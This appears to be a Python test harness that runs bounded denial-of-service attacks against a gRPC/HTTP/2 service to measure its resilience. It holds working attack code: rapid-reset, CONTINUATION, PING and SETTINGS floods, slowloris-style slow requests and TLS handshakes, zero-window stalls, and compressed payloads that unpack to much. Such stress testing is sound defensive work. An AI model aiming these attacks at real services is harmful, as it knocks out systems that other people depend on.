"""`python -m tests.attackers ATTACK HOST:PORT`: one client that abuses a service for LIFETIME_S.

It is a process of its own, so that its work does not delay the process that measures. It prints `attacking` before its
first byte. What it sends is bounded: a cut-off peer connects again after PAUSE_S at the earliest, and all of it ends
after LIFETIME_S.
"""

import contextlib
import gzip
import os
import selectors
import signal
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable, Iterator
from functools import partial
from itertools import count, cycle

from sweetspot.interop import testing_pb2
from sweetspot.v1 import workload_pb2

from tests.wire import frames

LIFETIME_S = 8.0
PAUSE_S = 0.05
STREAMS = 100
"""Calls at once on a connection: the default of --max-concurrent-streams."""
PEERS = 100
"""Connections of an attack that has many."""
WIDE = 2**31 - 1
"""The largest window (RFC 9113, section 6.9.1): nothing but the service bounds what it sends."""
RECEIVE_BYTES = 256 * 1024
HALF_BYTES = 10_000
"""All calls of a connection send together what its window allows."""
RUN, STREAM = b"/sweetspot.v1.Workload/Run", b"/grpc.testing.TestService/StreamingOutputCall"
NICENESS = 10
"""A real attacker has a processor of its own; this one takes what the service and its client leave."""

OPENING = frames.PREFACE + frames.frame(frames.SETTINGS)
WIDE_OPENING = (
    frames.PREFACE
    + frames.frame(frames.SETTINGS, payload=struct.pack(">HI", 4, WIDE))  # SETTINGS_INITIAL_WINDOW_SIZE
    + frames.window_update(0, WIDE - 65_535)
)
SETTINGS_ACK = frames.frame(frames.SETTINGS, frames.ACK)
CLOSED_OPENING = (
    frames.PREFACE + frames.frame(frames.SETTINGS, payload=struct.pack(">HI", 4, 0)) + SETTINGS_ACK
)  # no stream has a window, and none is ever opened


def calls(path: bytes, message: bytes, *, packed: bool = True) -> bytes:
    """As many calls as a connection may have at once, each with that message."""
    fields = frames.request_to(path, *([(b"grpc-encoding", b"gzip")] if packed else []))
    body = frames.message(gzip.compress(message) if packed else message, flag=int(packed))
    return b"".join(
        frames.headers(stream_id, fields) + frames.data(stream_id, body, end_stream=True)
        for stream_id in range(1, 2 * STREAMS, 2)
    )


def halves(path: bytes, message: bytes) -> bytes:
    """As many calls as a connection may have at once, each with the first part of that message."""
    body = frames.message(message)[:HALF_BYTES]
    return b"".join(
        frames.headers(stream_id, frames.request_to(path)) + frames.data(stream_id, body)
        for stream_id in range(1, 2 * STREAMS, 2)
    )


LARGE_ECHO = workload_pb2.RunRequest(payload=bytes(1_000_000)).SerializeToString()
"""About 1 kB once it is packed."""
# Field 15 (length-delimited, unknown) holds 4 MiB less some bytes, so that the message stays within its limit.
UNKNOWN_BYTES = 4 * 1024 * 1024 - 100
LARGE_UNKNOWN = (
    workload_pb2.RunRequest(
        steps=[workload_pb2.Step(sleep=workload_pb2.Sleep(duration_us=60_000_000))]
    ).SerializeToString()
    + b"\x7a"
    + bytes((UNKNOWN_BYTES & 0x7F | 0x80, UNKNOWN_BYTES >> 7 & 0x7F | 0x80, UNKNOWN_BYTES >> 14 & 0x7F | 0x80, 1))
    + bytes(UNKNOWN_BYTES)
)
LARGE_STREAM = testing_pb2.StreamingOutputCallRequest(
    response_parameters=[testing_pb2.ResponseParameters(size=60_000)] * 64
).SerializeToString()
"""3.8 MB of replies for each call."""


def connect(address: str) -> socket.socket:
    host, port = address.rsplit(":", 1)
    return socket.create_connection((host, int(port)), timeout=LIFETIME_S)


def again(address: str, attack: Callable[[socket.socket], None]) -> None:
    """The attack, on one connection after the other."""
    while True:
        with contextlib.suppress(OSError), connect(address) as sock:  # cut off, or refused
            attack(sock)
        time.sleep(PAUSE_S)


def read_all(request: bytes, sock: socket.socket) -> None:
    """Has all answered, as fast as it comes."""
    sock.sendall(WIDE_OPENING + request)
    while sock.recv(RECEIVE_BYTES):
        pass


def open_no_window(request: bytes, sock: socket.socket) -> None:
    """Reads all bytes, and makes no room for an answer."""
    sock.sendall(CLOSED_OPENING + request)
    while sock.recv(RECEIVE_BYTES):
        pass


def read_nothing(request: bytes, sock: socket.socket) -> None:
    """Reads none of the answers, for as long as it lives."""
    sock.sendall(WIDE_OPENING + request)
    time.sleep(LIFETIME_S)


def dribble(address: str) -> None:
    """Many connections that send a request byte by byte, all together 1,000 bytes a second."""
    said = OPENING + frames.headers(1, frames.request_to(RUN)) + frames.data(1, frames.message(bytes(60_000)))
    peers = [connect(address) for _ in range(PEERS)]
    for at in count():
        for sock in peers:
            with contextlib.suppress(OSError):
                sock.send(said[at : at + 1])
            time.sleep(0.1 / PEERS)


def idle(address: str) -> None:
    """Many connections that send only the opening of HTTP/2."""
    peers = [connect(address) for _ in range(PEERS)]
    for sock in peers:
        sock.sendall(OPENING)
    time.sleep(LIFETIME_S)


def open_nothing(address: str) -> None:
    """Many connections that send half of the preface."""
    peers = [connect(address) for _ in range(PEERS)]
    for sock in peers:
        sock.sendall(frames.PREFACE[:10])
    time.sleep(LIFETIME_S)


def shake_hands_slowly(address: str) -> None:
    """Many connections that send the first message of TLS byte by byte."""
    hello = ssl.MemoryBIO()
    handshake = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), hello, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        handshake.do_handshake()
    said = hello.read()
    peers = [connect(address) for _ in range(PEERS)]
    for at in range(len(said) - 1):
        for sock in peers:
            with contextlib.suppress(OSError):
                sock.send(said[at : at + 1])
        time.sleep(0.1)


def rapid_reset(number: int) -> bytes:
    stream_id = 2 * number + 1
    return frames.headers(stream_id, frames.request_to(RUN)) + frames.rst_stream(stream_id)


def continuation(number: int) -> bytes:
    if number == 0:
        return frames.frame(frames.HEADERS, 0, 1, b"\x82")
    return frames.frame(frames.CONTINUATION, 0, 1, b"\x84" * 100)


FLOODS: dict[str, Callable[[int], bytes]] = {
    "resets": rapid_reset,
    "continuations": continuation,
    "settings": lambda _: frames.frame(frames.SETTINGS),
    "pings": lambda _: frames.frame(frames.PING, payload=bytes(8)),
    "acknowledged pings": lambda _: frames.frame(frames.PING, frames.ACK, payload=bytes(8)),
    "acknowledged settings": lambda _: SETTINGS_ACK,
    "window updates": lambda _: frames.window_update(0, 1),
    "empty data": lambda number: frames.headers(1) if number == 0 else frames.data(1, b""),
}
FRAMES_AT_ONCE = 500


def flood(frame: Callable[[int], bytes], sock: socket.socket) -> None:
    """Sends frame after frame until the service ends the connection, and reads what the service sends."""
    sock.sendall(OPENING)
    sock.setblocking(False)
    with selectors.DefaultSelector() as selector:
        selector.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE)
        chunks = batches(frame)
        rest = next(chunks)
        while ready := selector.select(1):
            events = ready[0][1]
            if events & selectors.EVENT_READ and not sock.recv(RECEIVE_BYTES):
                return
            if events & selectors.EVENT_WRITE:
                rest = rest[sock.send(rest) :] or next(chunks)


def batches(frame: Callable[[int], bytes]) -> Iterator[bytes]:
    for begin in count(0, FRAMES_AT_ONCE):
        yield b"".join(map(frame, range(begin, begin + FRAMES_AT_ONCE)))


def floods(names: tuple[str, ...], address: str) -> None:
    """One kind of flood after the other, each on a connection of its own."""
    kinds = cycle(names)
    again(address, lambda sock: flood(FLOODS[next(kinds)], sock))


IDLE_CONNECTIONS = "idle connections"
HALF_PREFACES = "halves of prefaces"
SLOW_HANDSHAKES = "handshakes byte by byte"
"""Of a service behind TLS."""
ATTACKS: dict[str, Callable[[str], None]] = {
    "payloads that unpack to much": partial(again, attack=partial(read_all, calls(RUN, LARGE_ECHO))),
    "unknown fields that unpack to much": partial(again, attack=partial(read_nothing, calls(RUN, LARGE_UNKNOWN))),
    "replies that are not read": partial(again, attack=partial(read_nothing, calls(RUN, LARGE_ECHO))),
    "streams that are not read": partial(again, attack=partial(read_nothing, calls(STREAM, LARGE_STREAM))),
    "windows that stay closed": partial(again, attack=partial(open_no_window, calls(RUN, LARGE_ECHO))),
    "streams whose windows stay closed": partial(again, attack=partial(open_no_window, calls(STREAM, LARGE_STREAM))),
    "halves of requests": partial(again, attack=partial(open_no_window, halves(RUN, LARGE_ECHO))),
    "requests byte by byte": dribble,
    IDLE_CONNECTIONS: idle,
    HALF_PREFACES: open_nothing,
    SLOW_HANDSHAKES: shake_hands_slowly,
    "rapid resets": partial(floods, ("resets",)),
    "frames that ask for an answer": partial(floods, ("settings", "pings", "continuations")),
    "frames that ask for nothing": partial(
        floods, ("acknowledged pings", "acknowledged settings", "window updates", "empty data")
    ),
}
MANY_PEERS = ("requests byte by byte", IDLE_CONNECTIONS, HALF_PREFACES, SLOW_HANDSHAKES)
"""Those with PEERS connections."""


def main() -> None:
    name, address = sys.argv[1:]
    os.nice(NICENESS)
    signal.setitimer(signal.ITIMER_REAL, LIFETIME_S)  # its default action ends the process
    print("attacking", flush=True)
    ATTACKS[name](address)


if __name__ == "__main__":
    main()
